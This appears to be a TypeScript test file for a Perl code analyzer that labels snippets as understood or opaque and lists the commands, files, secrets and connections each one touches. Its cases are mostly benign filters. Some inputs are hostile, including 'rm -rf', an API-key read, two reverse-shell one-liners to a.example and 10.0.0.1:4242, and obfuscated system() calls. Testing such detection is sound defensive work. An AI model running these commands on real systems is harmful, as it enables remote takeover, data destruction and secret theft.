import assert from 'node:assert/strict';
import test from 'node:test';
import { describeReading } from './testing/describe-reading.ts';

test('understands filters and code that only computes', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['s/a/b/', 'ok'],
    ['print', 'ok'],
    ['s/\\[patch\\.crates-io\\].+\\n\\[/[/s', 'ok'],
    ['s/(\\d+)/$1+1/e', 'ok'],
    ['$h{$_}++ || print', 'ok'],
    ['print join ",", @F', 'ok'],
    ['print $F[0]', 'ok'],
    ['my %h; while(<>){ my @a = split /,/; $h{$a[0]} += $a[1]; } print "$_ $h{$_}\\n" for sort keys %h;', 'ok'],
    ['use strict; use warnings; print "hi\\n";', 'ok'],
    ['print if /foo/ && !/bar/', 'ok'],
    ['BEGIN{$/=undef} s/\\r\\n/\\n/g', 'ok'],
    ['tr/a-z/A-Z/', 'ok'],
    ['next if $. < 5; print', 'ok'],
    ['if (/(\\d+)/) { print "$1\\n" }', 'ok'],
    ['eval { die "x" }; print $@', 'ok'],
    ['printf("%d\\n", 5); print 10 / 2', 'ok'],
    ['sub f { return $_[0] * 2 } print f(2)', 'ok'],
    ['print "$ENV{HOME}\\n"', 'ok'],
    ['use List::Util qw(sum); print sum(1, 2)', 'ok'],
    ['print for grep { $_ > 1 } map { $_ * 2 } 1..5', 'ok'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('perl', code), expected, code);
});

test('notes what is run, read and written', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['exec "/bin/sh"', 'ok shell=/bin/sh'],
    ["system('rm -rf /home/user')", 'ok shell=rm -rf /home/user'],
    ['system("ls", "-l", "a b")', "ok shell=ls -l 'a b'"],
    ['print `/bin/bash`', 'ok shell=/bin/bash'],
    ['print qx(id)', 'ok shell=id'],
    ['s/x/system("id")/e', 'ok shell=id'],
    ['open(my $f, "<", "/etc/x"); print <$f>;', 'ok read=/etc/x'],
    ['open my $fh, ">", "/tmp/o" or die; print $fh "x"; close $fh', 'ok write=/tmp/o'],
    ['open(F, "id|"); print <F>', 'ok shell=id'],
    ['open(F, ">>log")', 'ok write=log'],
    ['open(F, "-|", "ls", "-l")', 'ok shell=ls -l'],
    ['open(F, $x)', 'no opaque=?'],
    ['unlink "a.txt", "b.txt"', 'ok delete=a.txt delete=b.txt'],
    ['rename "a", "b"; mkdir "c"', 'ok delete=a write=b write=c'],
    ['eval "system(\'id\')"', 'ok shell=id'],
    ['eval "$x"', 'no opaque=?'],
    ['print $ENV{API_KEY}', 'ok secret=API_KEY'],
    ['exec{"/bin/sh"} "x"', 'no'],
    ['my $c = "i" . "d"; system $c', 'ok shell=id'],
    ['require "x.pl"', 'no'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('perl', code), expected, code);
});

test('does not understand what leads out of plain data', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['print "@{[system(q(id))]}"', 'no'],
    ['print "$h{system(\'id\')}"', 'no'],
    ['my $x = "sys"; $x->("id")', 'no'],
    ['&{"system"}("id")', 'no'],
    ['*f = \\&CORE::system; f("id")', 'no'],
    ['/(?{ system("id") })/', 'no'],
    ['unshift @ARGV, "id|"; while (<>) {}', 'no'],
    [
      'use Socket;$i="a.example";socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(1,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");',
      'no shell=/bin/sh -i',
    ],
    [
      '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4242");system$_ while<>;',
      'no connect=10.0.0.1:4242 shell=?',
    ],
    ['print <<X', 'no'],
    ['use MyModule;', 'no'],
    ['foo / 1; system("x"); /', 'no'],
    ['s/x/y/ee', 'no'],
    ["s'x'system(\"id\")'e", 'ok shell=id'],
    ['print "$h{system \'id\'}"', 'no'],
    ['print "${\\ system \'id\'}"', 'no'],
    ['print "$a[fork]"', 'no'],
    ['print "$+{system \'id\'}"', 'no'],
    ['print "$#{system \'id\'}"', 'no'],
    ['print "$h{name} $h{\'a b\'} $a[0] $a[$i+1] $x->{k}[2]"', 'ok'],
    ['$ARGV[0] = "id|"; print <>', 'no'],
    ['BEGIN { unshift @INC, "." } use POSIX;', 'no'],
    ['sub system { 1 } system("id")', 'no shell=id'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('perl', code), expected, code);
});
